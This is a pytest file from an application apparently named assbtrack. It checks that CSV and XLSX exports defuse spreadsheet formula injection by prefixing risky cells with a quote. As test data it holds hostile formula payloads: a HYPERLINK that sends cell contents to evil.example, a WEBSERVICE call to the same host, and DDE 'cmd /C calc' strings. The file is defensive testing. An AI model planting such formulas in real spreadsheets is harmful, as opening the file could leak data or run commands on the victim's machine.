"""No text assbtrack writes to a CSV or an XLSX file runs as a formula when the file is opened (CSV injection):
one shared writer defuses the cells, every writer in the code uses it, and imports keep what the user sent."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from assbtrack.domain.spreadsheet import csv_writer, defuse, xlsx_append
from assbtrack.imports.services import import_apply, import_check, import_upload
from assbtrack.instruments.models import Equipment
from tests.utils.checks import client_for
from tests.utils.factories import OrganisationFactory, partner_for
from tests.utils.factories_imports import csv_bytes
from tests.utils.factories_materials import make_lot

ROOT = Path(__file__).resolve().parents[2]
SOURCE_FOLDERS = ("assbtrack", "materials", "electrodes", "cells", "modules")
SHARED_WRITER = ROOT / "assbtrack" / "domain" / "spreadsheet.py"

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1"]


def test_the_rule_is_owasps_and_spares_plain_numbers():
    for text in HOSTILE:
        assert defuse(text) == "'" + text
    for kept in ("-1.5", "+3e-4", "-12", ".5", "1e9", "Li6PS5Cl", "", "'=already text", " =spaced", "CELL-000001"):
        assert defuse(kept) == kept
    assert [defuse(-1.5), defuse(3), defuse(None)] == [-1.5, 3, None]  # values that are not text are untouched
    assert defuse("-1.5e") == "'-1.5e" and defuse("--1") == "'--1" and defuse("-") == "'-"


def test_the_csv_writer_defuses_every_cell_and_quotes_as_csv_does():
    buffer = io.StringIO()
    writer = csv_writer(buffer, lineterminator="\n")
    writer.writerow(["name", "value"])
    writer.writerows([[HOSTILE[0], -1.5], ["@x", "+3e-4"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["name", "value"], ["'" + HOSTILE[0], "-1.5"], ["'@x", "+3e-4"]]


def test_an_xlsx_cell_is_stored_as_text_not_as_a_formula():
    workbook = Workbook()
    xlsx_append(workbook.active, ["=1+1", "-2", "@A1", 4.5])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = list(load_workbook(io.BytesIO(buffer.getvalue())).active[1])
    assert [cell.value for cell in cells] == ["'=1+1", "-2", "'@A1", 4.5]
    assert [cell.data_type for cell in cells] == ["s", "s", "s", "n"]


def _sources() -> list[Path]:
    return [path for folder in SOURCE_FOLDERS for path in (ROOT / folder).rglob("*.py")
            if "migrations" not in path.parts]


def test_every_csv_and_xlsx_writer_goes_through_the_shared_one():
    """A new ``csv.writer`` or openpyxl sheet written row by row anywhere in the apps fails here."""
    sources = _sources()
    assert len(sources) > 100 and SHARED_WRITER in sources
    raw_csv = re.compile(r"\bcsv\.(writer|DictWriter)\(|from csv import")
    offenders = [str(path.relative_to(ROOT)) for path in sources
                 if path != SHARED_WRITER and raw_csv.search(path.read_text())]
    assert offenders == [], f"write CSV through assbtrack.domain.spreadsheet.csv_writer: {offenders}"
    sheet_names = re.compile(r"(\w+) = \w+\.(?:active\b|create_sheet\()")
    workbook_writers = []
    for path in sources:
        text = path.read_text()
        if path == SHARED_WRITER or "Workbook(" not in text:
            continue
        workbook_writers.append(path)
        for name in sheet_names.findall(text):
            assert not re.search(rf"\b{name}\.append\(|\b{name}\.cell\(.*value=", text), (
                f"{path.relative_to(ROOT)} writes sheet {name} directly; use xlsx_append")
        assert "xlsx_append(" in text, path
    assert workbook_writers, "the import templates write a workbook: the search found none"


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.django_db
@pytest.mark.parametrize("flat", [True, False])
def test_api_list_exports_defuse_on_both_paths(project, sci, settings, flat):
    from tests.api.helpers import token_client

    settings.ASSBTRACK_EXPORT_FLAT = flat
    make_lot(project, sci, supplier=HOSTILE[0], chemical_name="@SUM(A1:A9)", supplier_lot="-2+3")
    response = token_client(sci).get("/api/v1/material-lots/", {"export": "csv"})
    assert response.status_code == 200
    header, row = _rows(response)
    values = dict(zip(header, row, strict=True))
    assert values["supplier"] == "'" + HOSTILE[0]
    assert (values["chemical_name"], values["supplier_lot"]) == ("'@SUM(A1:A9)", "'-2+3")
    assert values["mass_g"] == "100.000000"  # numbers are written as numbers, unprefixed


@pytest.mark.django_db
def test_the_impact_csv_defuses_partner_organisation_names(project, sci):
    from tests.api.helpers import make_chain

    chain = make_chain(project, sci, cells=1)
    partner_for(project, organisation=OrganisationFactory(name="=WEBSERVICE(\"http://evil.example\")"))
    response = client_for(sci).get(f"/items/{chain['batch'].item.code}/impact/", {"format": "csv"})
    assert response.status_code == 200
    rows = _rows(response)
    assert len(rows) > 3
    assert {row[-1] for row in rows[1:]} == {"'=WEBSERVICE(\"http://evil.example\")"}


@pytest.mark.django_db
def test_the_import_problem_report_defuses_what_the_file_said(tech, project):
    content = csv_bytes(["name", "kind", "=cmd|' /C calc'!A0"], [["Mill 9", "ball_mill", "x"]])
    run = import_check(run=import_upload(kind="equipment", project=project, user=tech, file_name="e.csv",
                                         content=content))
    assert run.problem_count == 1
    rows = _rows(client_for(tech).get(f"/imports/{run.pk}/report.csv"))
    assert rows[1][:2] == ["1", "'=cmd|' /C calc'!A0"]


@pytest.mark.django_db
def test_the_xlsx_template_holds_no_formula(tech):
    response = client_for(tech).get("/imports/templates/equipment.xlsx")
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert len(cells) > 20 and all(cell.data_type != "f" for cell in cells)


@pytest.mark.django_db
@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_imports_keep_a_leading_tab_and_a_defusing_quote(tech, project, file_format):
    """A cell exported as ``'=...`` or sent as ``<tab>=...`` is stored as sent: never turned back into a formula."""
    header = ["name", "kind", "make and model", "notes"]
    row = ["Mill 7", "ball_mill", "'=SUM(A1)", "\t=1+1"]
    if file_format == "csv":
        content = csv_bytes(header, [row])
    else:
        workbook = Workbook()
        workbook.active.title = "data"
        workbook.active.append(header)
        workbook.active.append(row)
        buffer = io.BytesIO()
        workbook.save(buffer)
        content = buffer.getvalue()
    run = import_check(run=import_upload(kind="equipment", project=project, user=tech,
                                         file_name=f"mills.{file_format}", content=content))
    assert run.problems == []
    import_apply(run=run, user=tech)
    equipment = Equipment.objects.get(name="Mill 7")
    assert (equipment.make_model, equipment.notes) == ("'=SUM(A1)", "\t=1+1")
